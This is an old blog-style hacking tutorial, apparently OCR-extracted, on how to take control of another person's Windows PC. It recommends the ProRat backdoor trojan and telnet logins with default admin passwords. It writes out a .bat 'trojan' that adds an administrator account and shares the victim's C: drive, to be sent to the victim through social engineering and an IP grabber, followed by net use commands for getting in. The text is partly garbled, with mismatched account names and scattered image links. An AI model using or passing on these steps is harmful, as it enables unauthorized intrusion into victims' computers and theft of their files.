Saturday, November 17, 2007

to after getting ipadress

Download Prorat:

Is a Backdoor Trojan horse that gives an attacker full control over your computer.
Opens a port on the system.
Is written in Delphi.
Is packed with UPX

Use this.. put his Ip..gain access.. to his PC..

u can also use telnet.. use port scan his ports..nd then

Start>Run>CMD>Telnet>o>IP Port>user name:admin>Password:admin..then ur in his pc.... type help for a list of commands.. nd then u can use them as well....

you can also use cmd but if u use that.. u need to send him a file..i ts not a trojan..jus a file which shares his C drive.. lolz.. datz a method.... two methods are given..if u can send the file.. il give u the third method..den u can use the followin method...

Requirements are simple and small, You'll need to have a good computer, modem, victim and social engineering skills. We will be hacking here using the NET command in the dos shell.

Making the trojan

Open Notepad and enter the following commandsnet user madmax /add
net localgroup administrators Death Arrival /add
net share system=C:\ /unlimited
net send
Here is your IP.
Now save this file with an extension of .bat and viola your trojan is ready. The next step is to send this to the victim and once he runs it, you can go to dos shell and

Getting IP of the victim
For the last step you will need the IP of the victim and for thatmake your own IP grabber at and make the victim click on it. You will have his/her IP in your inbox.

Getting into his computer
After the victim has clicked on the trojan and the you got his IP, go to the dos shell and enter the below commands
net use\\victimip Death Arrivalexplorer \\victimip\system